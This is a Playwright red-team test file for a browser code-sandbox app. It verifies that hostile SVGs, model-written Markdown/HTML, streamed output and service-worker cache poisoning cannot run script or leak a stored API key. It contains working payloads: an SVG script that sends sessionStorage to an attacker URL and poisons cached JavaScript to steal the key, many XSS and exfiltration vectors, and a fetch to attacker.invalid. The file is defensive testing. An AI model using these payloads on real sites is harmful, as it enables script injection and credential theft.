// Red team against the app's origin, written as an attacker would try it. User code, files and
// the model's text are the attacker's. The goal is to run script as the app, to read the
// remembered API key, or to make the page load something from the attacker. A loopback
// "attacker" server counts every request. A script run is seen two ways: the payloads set a
// localStorage marker, and they send the attacker a request. Each test ends with a positive
// control: the page itself fetches the attacker, so a server that counts nothing is known to be
// listening. SECURITY.md lists which defence each test checks.
import { createServer, type Server } from "node:http";
import type { AddressInfo, Socket } from "node:net";
import { expect, test, type BrowserContext, type Locator, type Page } from "@playwright/test";
import { startFakeAnthropic, type FakeAnthropic } from "../fixtures/fake-anthropic/server.ts";
import { streamStep } from "../fixtures/fake-anthropic/sse.ts";
import { collectErrors, runInConsole, screen, startCorsFront, startStaticServer, waitReady, type RunningServer } from "./app.helpers.ts";

const KEY = "sk-ant-redteam-0123456789-SECRET";
const MARKER = "redteam:script-ran";

let attacker: Server;
let attackerURL = "";
let requests: string[] = [];
const sockets = new Set<Socket>();

test.beforeAll(async () => {
  attacker = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/plain" });
    res.end("ok");
  });
  attacker.on("connection", (socket) => {
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
  });
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
  attackerURL = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  for (const socket of sockets) socket.destroy();
  await new Promise((resolve) => attacker.close(resolve));
});

test.beforeEach(() => {
  requests = [];
});

/** The page fetches the attacker itself; once that is counted, everything before it would be too. */
async function positiveControl(page: Page): Promise<void> {
  await page.evaluate((url) => fetch(`${url}/control`).then((r) => r.text()), attackerURL);
  await expect.poll(() => requests.includes("GET /control")).toBe(true);
}

function appOrigin(): string {
  return new URL(test.info().project.use.baseURL!).origin;
}

/** Every address an element tree exposes (through shadow roots), as a user could open or copy it. */
async function exposedURLs(root: Locator): Promise<string[]> {
  return root.evaluate((element) => {
    const found: string[] = [];
    const walk = (node: Element | ShadowRoot) => {
      for (const el of node.querySelectorAll("*")) {
        for (const name of ["src", "href", "srcset", "poster", "data", "action", "formaction", "xlink:href"]) {
          const value = el.getAttribute(name);
          if (value) found.push(new URL(value.split(/\s/)[0]!, document.baseURI).href);
        }
        // "Open image in new tab" on a canvas opens the PNG the browser makes of it.
        if (el instanceof HTMLCanvasElement && el.width > 0) found.push(el.toDataURL("image/png"));
        if (el.shadowRoot) walk(el.shadowRoot);
      }
    };
    walk(element.shadowRoot ?? element);
    if (element.shadowRoot) walk(element);
    return found;
  });
}

interface Opened {
  url: string;
  origin: string | null;
  contentType: string | null;
  downloaded: boolean;
}

/** Opens `url` in a new tab, as "open in new tab" or a pasted address does, and says what it became. */
async function openInNewTab(context: BrowserContext, url: string): Promise<Opened> {
  const tab = await context.newPage();
  let downloaded = false;
  tab.on("download", () => (downloaded = true));
  await tab.goto(url).catch(() => undefined); // a download aborts the navigation
  // Whatever the document sends goes out before the tab closes.
  await tab.waitForLoadState("networkidle").catch(() => undefined);
  const doc = await tab.evaluate(() => ({ origin: location.origin, contentType: document.contentType })).catch(() => null);
  await tab.close();
  return { url: url.slice(0, 80), origin: doc?.origin ?? null, contentType: doc?.contentType ?? null, downloaded };
}

/** An SVG picture with a script in CDATA that steals what it can and poisons the cached app. */
function evilSvg(attacker: string): string {
  const payload = `
    var leak = function (what) { try { fetch("${attacker}/svg?" + what); } catch (e) {} try { new Image().src = "${attacker}/svg-img?" + what; } catch (e) {} };
    try { localStorage.setItem("${MARKER}", "svg:" + location.href); } catch (e) {}
    leak("origin=" + encodeURIComponent(location.origin) + "&session=" + encodeURIComponent(JSON.stringify(sessionStorage)));
    var poison = 'fetch("${attacker}/poisoned?key=" + encodeURIComponent(sessionStorage.getItem("code-exec-sandbox:api-key")));';
    caches.keys().then(function (names) {
      return Promise.all(names.map(function (name) {
        return caches.open(name).then(function (cache) {
          return cache.keys().then(function (keys) {
            return Promise.all(keys.filter(function (r) { return /\\.js$/.test(r.url); }).map(function (r) {
              return cache.put(r, new Response(poison, { headers: { "content-type": "text/javascript" } }));
            }));
          });
        });
      }));
    }).then(function () { leak("poisoned=1"); });`;
  return `<svg xmlns="http://www.w3.org/2000/svg" width="240" height="120" viewBox="0 0 240 120">
<rect width="240" height="120" fill="#ffe8a3"/>
<circle cx="60" cy="60" r="40" fill="#dd3333"/>
<text x="115" y="68" font-size="22" font-family="sans-serif">chart</text>
<script type="text/javascript"><![CDATA[${payload}]]></script>
</svg>
`;
}

test("an SVG with a script, written by a cell, never runs in the app's origin: preview, new tab, middle-click, drag, copied address, download, then a remembered key and a reload", async ({
  page,
  context,
}) => {
  const errors = collectErrors(page);
  await page.goto("./");
  await waitReady(page);
  // The service worker controls the page, so a poisoned cache would be served on reload.
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);

  const svg = evilSvg(attackerURL);
  const written = await runInConsole(
    page,
    "bash",
    `cat > chart.svg <<'EOF'\n${svg}EOF\ncp chart.svg "$OUTPUT_DIR/chart.svg" && echo written`,
  );
  expect(written).toMatchObject({ type: "bash_code_execution_tool_result", content: { stdout: "written\n", return_code: 0 } });

  // The preview shows the picture, whatever element it uses.
  const chip = page.getByTestId("console-output").locator("file-chip");
  const picture = chip.locator("file-preview").locator("img, canvas");
  await expect(picture).toBeVisible();

  const opened: Opened[] = [];
  // Open in new tab / copy the address: every address the chip and its preview expose.
  for (const url of await exposedURLs(chip)) opened.push(await openInNewTab(context, url));

  // Middle-click the picture: a link would open a tab.
  const pagesBefore = context.pages().length;
  await picture.click({ button: "middle" });
  // Drag the picture onto a drop zone that records everything the drag carries, then open it.
  await page.evaluate(() => {
    const zone = document.createElement("div");
    zone.id = "redteam-drop";
    zone.textContent = "drop here";
    zone.addEventListener("dragover", (e) => e.preventDefault());
    zone.addEventListener("drop", (e) => {
      e.preventDefault();
      const data = e.dataTransfer!;
      (window as unknown as { dropped: string[] }).dropped = data.types.map((type) => data.getData(type));
    });
    document.body.prepend(zone);
  });
  await picture.dragTo(page.locator("#redteam-drop"));
  const dropped = await page.evaluate(() => (window as unknown as { dropped?: string[] }).dropped ?? []);
  for (const text of dropped)
    for (const url of text.match(/(blob|data|https?):[^\s"'<>]+/g) ?? []) opened.push(await openInNewTab(context, url));

  // Download: the browser's download list keeps the address; open it as a page.
  const [download] = await Promise.all([page.waitForEvent("download"), chip.getByTestId("file-download").click()]);
  expect(download.suggestedFilename()).toBe("chart.svg");
  opened.push(await openInNewTab(context, download.url()));

  // The same file in the file panel.
  await page.getByTestId("tab-files").click();
  await page.locator('[data-testid="file-row"][data-path="/workspace/chart.svg"]').getByRole("button", { name: "Preview" }).click();
  const panelPreview = page.getByTestId("file-preview");
  await expect(panelPreview.locator("file-preview").locator("img, canvas")).toBeVisible();
  for (const url of await exposedURLs(panelPreview.locator("file-preview"))) opened.push(await openInNewTab(context, url));
  await page.getByTestId("tab-console").click();

  // Soft: a broken defence is reported, and the attack goes on to show how far it gets.
  expect.soft(context.pages().length).toBe(pagesBefore);
  // No address led to a document in the app's origin; the download stayed a download.
  expect.soft(opened.filter((o) => o.origin === appOrigin())).toEqual([]);
  expect.soft(opened.filter((o) => o.url.startsWith("blob:"))).toEqual([expect.objectContaining({ downloaded: true, origin: "null" })]);

  // The picture is drawn on a canvas at its size, the circle's red at its centre.
  await screen(page, "redteam-svg-preview");
  const canvas = chip.getByTestId("image-preview");
  await expect.soft(canvas).toHaveAttribute("data-state", "drawn");
  if (await canvas.count()) {
    expect(await canvas.evaluate((c: HTMLCanvasElement) => [c.width, c.height])).toEqual([240, 120]);
    expect(await canvas.evaluate((c: HTMLCanvasElement) => [...c.getContext("2d")!.getImageData(60, 60, 1, 1).data])).toEqual([
      221, 51, 51, 255,
    ]);
  }

  // The user keeps the key for this tab and reloads: a poisoned app would send it now.
  await page.getByTestId("tab-settings").click();
  await page.getByTestId("settings-api-key").fill(KEY);
  await page.getByLabel("Remember the key until this tab closes").check();
  await page.reload();
  // A poisoned app would have sent its request while loading, before this one.
  await positiveControl(page);
  expect.soft(requests.filter((r) => r.includes(encodeURIComponent(KEY)) || r.includes(KEY))).toEqual([]);
  expect(requests).toEqual(["GET /control"]);
  expect(await page.evaluate((marker) => localStorage.getItem(marker), MARKER)).toBeNull();
  await waitReady(page);
  expect(await page.evaluate(() => sessionStorage.getItem("code-exec-sandbox:api-key"))).toBe(KEY);
  expect(errors).toEqual([]);
});

/** Every way we know for Markdown or raw HTML in a reply to fetch, run, restyle or submit. */
function evilMarkdown(a: string): string {
  const m = `localStorage.setItem('${MARKER}', 'markdown')`;
  return [
    "Here is what I found.",
    `![the chart](${a}/md-image?leak=secret-from-a-file)`,
    "![by reference][pic]",
    `[pic]: ${a}/md-ref-image?leak=2`,
    `<img src="${a}/raw-img?leak=3" alt="raw picture">`,
    `<img src="x" onerror="${m}">`,
    `<img srcset="${a}/srcset?leak=4 1x" alt="srcset picture">`,
    `<picture><source srcset="${a}/picture-source?leak=5"><img alt="picture element"></picture>`,
    `<input type="image" src="${a}/input-image?leak=6">`,
    `<video poster="${a}/video-poster?leak=7" autoplay><source src="${a}/video-source?leak=8"></video>`,
    `<audio src="${a}/audio?leak=9" autoplay></audio>`,
    `<style>@import url("${a}/style-import?leak=10"); .user { display: none !important; } * { background-image: url("${a}/style-bg?leak=11") !important; }</style>`,
    `<link rel="stylesheet" href="${a}/link-stylesheet?leak=12">`,
    `<div style="background-image: url('${a}/inline-style?leak=13')">styled</div>`,
    `<table background="${a}/table-background?leak=14"><tr><td>cell</td></tr></table>`,
    `<form action="${a}/form?leak=15" method="post"><input name="q" value="secret"><button>Send</button></form>`,
    `<iframe src="${a}/iframe?leak=16"></iframe>`,
    `<iframe srcdoc="<script>parent.${m}</script>"></iframe>`,
    `<object data="${a}/object?leak=17"></object>`,
    `<embed src="${a}/embed?leak=18">`,
    `<svg><image href="${a}/svg-image?leak=19"/><script>${m}</script></svg>`,
    `<meta http-equiv="refresh" content="0; url=${a}/meta-refresh?leak=20">`,
    `<base href="${a}/base/">`,
    `<a href="javascript:${m}">js link</a>`,
    `<a href="${a}/ping-target" ping="${a}/ping?leak=21">a normal link</a>`,
    `<a href="data:text/html,<script>${m}</script>">data link</a>`,
    `[markdown js link](javascript:localStorage.setItem('${MARKER}','md-link'))`,
    `<script>${m}</script>`,
    "- [x] a done task",
  ].join("\n\n");
}

const TAGS_THAT_LOAD_RUN_OR_SUBMIT =
  "img, picture, source, input, video, audio, style, link, form, button, iframe, object, embed, svg, image, meta, base, script";

test("model Markdown loads nothing remote, runs nothing, restyles nothing and submits nothing", async ({ page }) => {
  const errors = collectErrors(page);
  let fake: FakeAnthropic | null = null;
  let front: RunningServer | null = null;
  try {
    fake = await startFakeAnthropic();
    front = await startCorsFront(fake.url);
    fake.enqueue(
      streamStep({
        content: [{ type: "text", text: evilMarkdown(attackerURL), citations: null }] as never,
        stop_reason: "end_turn",
        container: { id: "container_011CPR5CNjB747bTd36fQLFk", expires_at: "2026-12-01T00:00:00Z", skills: null },
      }),
    );
    await page.goto("./");
    await waitReady(page);
    await page.getByTestId("tab-settings").click();
    await page.getByTestId("settings-engine").selectOption("hosted");
    await page.getByTestId("settings-api-key").fill(KEY);
    // An API address outside the page's policy is named as such, not left to fail as a network error.
    await page.getByTestId("settings-base-url").fill("https://proxy.elsewhere.example");
    await expect(page.getByTestId("settings-base-url-blocked")).toContainText("build the app with CSP_CONNECT_SRC");
    await page.getByTestId("settings-base-url").fill(front.url);
    await expect(page.getByTestId("settings-base-url-blocked")).toHaveCount(0);
    await page.getByTestId("tab-chat").click();
    await page.getByTestId("chat-input").fill("Summarise the files.");
    await page.getByTestId("chat-send").click();
    await expect(page.getByTestId("chat-notice").last()).toContainText("Done (end_turn)", { timeout: 20_000 });

    const reply = page.getByTestId("conversation").getByTestId("assistant-text");
    await expect(reply).toContainText("Here is what I found.");
    await screen(page, "redteam-markdown");
    // Rendering it (streamed, then whole) made no request and ran nothing.
    await positiveControl(page);
    expect.soft(requests).toEqual(["GET /control"]);
    expect.soft(await page.evaluate((marker) => localStorage.getItem(marker), MARKER)).toBeNull();
    // Nothing that loads, runs, restyles or submits is left, and no attribute that fetches. (Soft:
    // a broken defence is reported, and the checks below show what it let through.)
    await expect.soft(reply.locator(TAGS_THAT_LOAD_RUN_OR_SUBMIT)).toHaveCount(0);
    await expect.soft(reply.locator("[style], [background], [srcset], [poster], [ping], [action], [onerror]")).toHaveCount(0);
    // Pictures on the web became links the user may open; the others, placeholders.
    await expect(reply.locator("a.remote-image")).toHaveText(["image: the chart", "image: by reference", "image: raw picture"]);
    expect(await reply.locator("a.remote-image").evaluateAll((links) => links.map((a) => a.getAttribute("href")))).toEqual([
      `${attackerURL}/md-image?leak=secret-from-a-file`,
      `${attackerURL}/md-ref-image?leak=2`,
      `${attackerURL}/raw-img?leak=3`,
    ]);
    await expect(reply.locator(".image-placeholder")).toHaveText([
      "[image: no description]",
      "[image: srcset picture]",
      "[image: picture element]",
    ]);
    // Links: http(s) only, into a new tab that cannot reach back; script and data links lose their address.
    const links = await reply
      .locator("a")
      .evaluateAll((as) => as.map((a) => [a.textContent, a.getAttribute("href"), a.getAttribute("target"), a.getAttribute("rel")]));
    for (const [, href, target, rel] of links) {
      if (href === null) continue;
      expect(href).toMatch(/^https?:\/\//);
      expect([target, rel]).toEqual(["_blank", "noopener noreferrer"]);
    }
    expect(links.filter(([text]) => ["js link", "data link", "markdown js link"].includes(text!)).map(([, href]) => href)).toEqual([
      null,
      null,
      null,
    ]);
    await expect(reply.locator("td")).toHaveText("cell");
    await expect(reply).toContainText("☑ a done task");
    // The <style> tried to hide the user's turn.
    await expect(page.getByTestId("user-text")).toBeVisible();
    expect(errors).toEqual([]);
  } finally {
    await front?.close();
    await fake?.close();
  }
});

/** Markup that would run, load, restyle or frame something if a stream of output became HTML. */
function evilOutput(a: string): string {
  const run = (what: string) => `localStorage.setItem('${MARKER}', '${what}'); fetch('${a}/${what}')`;
  return [
    `<img src="${a}/out-img" onerror="${run("out-onerror")}">`,
    `<script>${run("out-script")}</script>`,
    `<style>* { background: url(${a}/out-style) }</style>`,
    `<iframe src="${a}/out-iframe"></iframe>`,
    `<svg onload="${run("out-svg")}"></svg>`,
    `<a href="javascript:${run("out-js-link")}">link</a>`,
  ].join("\n");
}

test("markup printed by a running cell streams as text: nothing in it loads, runs or restyles, while it runs or after", async ({
  page,
}) => {
  const errors = collectErrors(page);
  await page.goto("./");
  await waitReady(page);
  const markup = evilOutput(attackerURL);
  // Printed at once on both streams, then the cell keeps running, so the live view is what shows it.
  const code = `import sys, time\nprint(${JSON.stringify(markup)}, flush=True)\nprint(${JSON.stringify(markup)}, file=sys.stderr, flush=True)\ntime.sleep(4)`;
  await page.getByTestId("console-mode").selectOption("python");
  await page.getByTestId("console-input").fill(code);
  await page.getByTestId("console-run").click();
  const output = page.getByTestId("console-output");
  const live = output.getByTestId("live-output");
  // Soft: a broken defence is reported, and the checks below show what it let through.
  await expect.soft(live.getByTestId("stderr")).toHaveText(markup, { timeout: 20_000 });
  await expect.soft(live.getByTestId("stdout")).toHaveText(markup);
  expect.soft(await output.getAttribute("data-block")).toBeNull(); // still running
  await screen(page, "redteam-streamed-markup");
  await expect.soft(live.locator(TAGS_THAT_LOAD_RUN_OR_SUBMIT)).toHaveCount(0);
  await expect.soft(live.locator("a, [onerror], [onload], [style]")).toHaveCount(0);

  await expect(output).toHaveAttribute("data-block", /code_execution_result/, { timeout: 30_000 });
  await expect.soft(output.getByTestId("stdout")).toHaveText(markup);
  await expect.soft(output.getByTestId("stderr")).toHaveText(markup);
  await expect.soft(output.locator(TAGS_THAT_LOAD_RUN_OR_SUBMIT)).toHaveCount(0);
  await expect.soft(output.locator("a, [onerror], [onload], [style]")).toHaveCount(0);
  await positiveControl(page);
  expect.soft(requests).toEqual(["GET /control"]);
  expect.soft(await page.evaluate((marker) => localStorage.getItem(marker), MARKER)).toBeNull();
  expect(errors).toEqual([]);
});

test("a poisoned service worker cache entry is dropped and fetched again, never served", async ({ page, request }) => {
  const errors = collectErrors(page);
  await page.goto("./");
  await waitReady(page);
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  const entry = await page.evaluate(() => document.querySelector<HTMLScriptElement>('script[type="module"][src]')!.src);
  const lock = new URL("pyodide/pyodide-lock.json", page.url()).href;

  // Script in the origin rewrites the app's entry script and a runtime file where they are
  // cached, and adds a page of its own to every cache.
  const poison = `localStorage.setItem("${MARKER}", "poisoned"); fetch("${attackerURL}/poisoned");`;
  const poisoned = await page.evaluate(
    async ({ entry, lock, poison }) => {
      const rewritten: string[] = [];
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        if (await cache.match(entry)) {
          await cache.put(entry, new Response(poison, { headers: { "content-type": "text/javascript" } }));
          rewritten.push(`${name.replace(/-[0-9a-f]{12}$/, "")}: entry`);
        }
        if (await cache.match(lock)) {
          await cache.put(lock, new Response("{}", { headers: { "content-type": "application/json" } }));
          rewritten.push(`${name}: lock`);
        }
        await cache.put(
          new URL("redteam.html", location.href).href,
          new Response(`<script type="module" src="${entry}"></script>`, { headers: { "content-type": "text/html" } }),
        );
      }
      return rewritten.sort();
    },
    { entry, lock, poison },
  );
  expect(poisoned).toEqual(["code-exec-sandbox-runtime: lock", "code-exec-sandbox-shell: entry"]);

  await page.reload();
  // Either the real app starts or the poison runs; only the first may happen.
  await page.waitForFunction((marker) => localStorage.getItem(marker) !== null || document.querySelector("sandbox-app") !== null, MARKER);
  expect(await page.evaluate((marker) => localStorage.getItem(marker), MARKER)).toBeNull();
  await waitReady(page);

  // The entries now hold the server's bytes again.
  const served = async (url: string) => Buffer.from(await (await request.get(url)).body()).toString("utf8");
  const cached = await page.evaluate(
    async ({ entry, lock }) => {
      const read = async (url: string) => {
        const hits = await Promise.all((await caches.keys()).map(async (name) => (await caches.open(name)).match(url)));
        return Promise.all(hits.filter((hit) => hit !== undefined).map((hit) => hit!.text()));
      };
      return { entry: await read(entry), lock: await read(lock) };
    },
    { entry, lock },
  );
  expect(cached.entry).toEqual([await served(entry)]);
  expect(cached.lock).toEqual([await served(lock)]);

  // A page that is not in the build's manifest is never served from the cache.
  await page.goto("./redteam.html");
  await page.waitForLoadState("load");
  expect(await page.evaluate(() => document.documentElement.outerHTML)).not.toContain('<script type="module" src="http');
  expect(await page.evaluate((marker) => localStorage.getItem(marker), MARKER)).toBeNull();

  await page.goto("./");
  await waitReady(page);
  await positiveControl(page);
  expect(requests).toEqual(["GET /control"]);
  expect(errors).toEqual([]);
});

test("index.html and embed.html carry a strict CSP that stops what got past a sanitiser, and the sandbox still runs under it", async ({
  page,
}) => {
  for (const path of ["./", "./embed.html?code=print(6*7)"]) {
    requests = [];
    const errors = collectErrors(page);
    await page.goto(path);
    // The sandbox frame and its worker inherit the page's policy: the container still starts.
    await expect(page.getByTestId("status")).toContainText("Ready in", { timeout: 45_000 });
    const policy = await page.evaluate(
      () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content") ?? "",
    );
    const directives = Object.fromEntries(
      policy
        .split(";")
        .map((part) => part.trim().split(/\s+/))
        .map(([name, ...sources]) => [name, sources]),
    );
    expect(directives["script-src"]).toEqual([
      "'self'",
      expect.stringMatching(/^'sha256-[A-Za-z0-9+/]+=*'$/),
      "blob:",
      "'wasm-unsafe-eval'",
    ]);
    expect(directives["style-src"]).toEqual(["'self'"]);
    // Only attributes (Chromium's editing writes them in CodeMirror); they load nothing, see img-src.
    expect(directives["style-src-attr"]).toEqual(["'unsafe-inline'"]);
    expect(directives["img-src"]).toEqual(["'self'", "blob:", "data:"]);
    expect(directives["media-src"]).toEqual(["'self'", "blob:", "data:"]);
    expect(directives["connect-src"]).toEqual([
      "'self'",
      "data:",
      "https://api.anthropic.com",
      "http://localhost:*",
      "http://127.0.0.1:*",
      "https://cdn.jsdelivr.net",
    ]);
    expect([directives["object-src"], directives["base-uri"], directives["form-action"]]).toEqual([["'none'"], ["'none'"], ["'none'"]]);
    const loose = ["*", "'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "http:", "https:", "ws:", "wss:"];
    const { "style-src-attr": _attributes, ...others } = directives;
    expect(
      Object.values(others)
        .flat()
        .filter((source) => loose.includes(source)),
    ).toEqual([]);

    // Markup that a sanitiser let through, by mistake: each piece is refused by the policy.
    const violations = await page.evaluate(async (a) => {
      const seen: string[] = [];
      document.addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
      const box = document.createElement("div");
      box.innerHTML = `<img src="${a}/csp-img"><video poster="${a}/csp-poster"></video><object data="${a}/csp-object"></object><base href="${a}/">`;
      const script = document.createElement("script");
      script.textContent = "window.cspInlineRan = true";
      const style = document.createElement("style");
      style.textContent = `@import url("${a}/csp-style-import");`;
      const styled = document.createElement("div");
      styled.setAttribute("style", `background-image: url("${a}/csp-inline-style")`);
      const form = document.createElement("form");
      form.action = `${a}/csp-form`;
      form.method = "post";
      box.append(script, style, styled, form);
      document.body.append(box);
      form.submit();
      await fetch("https://attacker.invalid/csp-fetch").catch(() => undefined);
      const deadline = performance.now() + 10_000;
      const wanted = ["img-src", "object-src", "base-uri", "script-src-elem", "style-src-elem", "form-action", "connect-src"];
      while (!wanted.every((d) => seen.includes(d)) && performance.now() < deadline) await new Promise((r) => setTimeout(r, 50));
      return { seen: [...new Set(seen)].sort(), inlineRan: (window as unknown as { cspInlineRan?: boolean }).cspInlineRan === true };
    }, attackerURL);
    expect(violations).toEqual({
      seen: ["base-uri", "connect-src", "form-action", "img-src", "object-src", "script-src-elem", "style-src-elem"],
      inlineRan: false,
    });
    expect(page.url()).toContain(path.replace("./", "/"));
    await positiveControl(page);
    expect(requests).toEqual(["GET /control"]);
    // The refusals above are the browser's console reports of this very test; nothing else.
    expect(errors.filter((e) => !/Content Security Policy|Refused to|Fetch API cannot load https:\/\/attacker\.invalid/.test(e))).toEqual(
      [],
    );
    page.removeAllListeners("console");
    page.removeAllListeners("pageerror");
  }
});

test("the widget on a host page shows an SVG output as pixels, with no address in the host page's origin", async ({ page, context }) => {
  const errors = collectErrors(page);
  const host = await startStaticServer(".");
  try {
    await page.goto(`${host.url}/examples/widget.html`);
    await expect(page.getByTestId("status")).toContainText("Ready in", { timeout: 45_000 });
    const written = await runInConsole(page, "bash", `cat > "$OUTPUT_DIR/chart.svg" <<'EOF'\n${evilSvg(attackerURL)}EOF\necho written`);
    expect(written).toMatchObject({ content: { stdout: "written\n", return_code: 0 } });
    const chip = page.getByTestId("console-output").locator("file-chip");
    await expect(chip.locator("file-preview").locator("img, canvas")).toBeVisible();
    const opened: Opened[] = [];
    for (const url of await exposedURLs(chip)) opened.push(await openInNewTab(context, url));
    expect(opened.filter((o) => o.origin === host.url)).toEqual([]);
    await expect(chip.getByTestId("image-preview")).toHaveAttribute("data-state", "drawn");
    await screen(page, "redteam-widget-svg");
    await positiveControl(page);
    expect(requests).toEqual(["GET /control"]);
    expect(await page.evaluate((marker) => localStorage.getItem(marker), MARKER)).toBeNull();
    expect(errors).toEqual([]);
  } finally {
    await host.close();
  }
});
